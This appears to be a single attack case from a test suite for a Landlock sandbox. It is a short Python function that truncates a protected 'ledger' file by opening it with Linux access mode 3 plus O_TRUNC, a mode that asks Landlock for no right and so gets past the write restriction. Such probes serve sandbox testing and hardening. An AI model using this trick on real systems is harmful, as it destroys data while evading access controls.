"""Empties the ledger by opening it with Linux's third access mode, which asks Landlock for no right."""

import os


def attack(world):
    return os.open(world["ledger"], 3 | os.O_TRUNC)
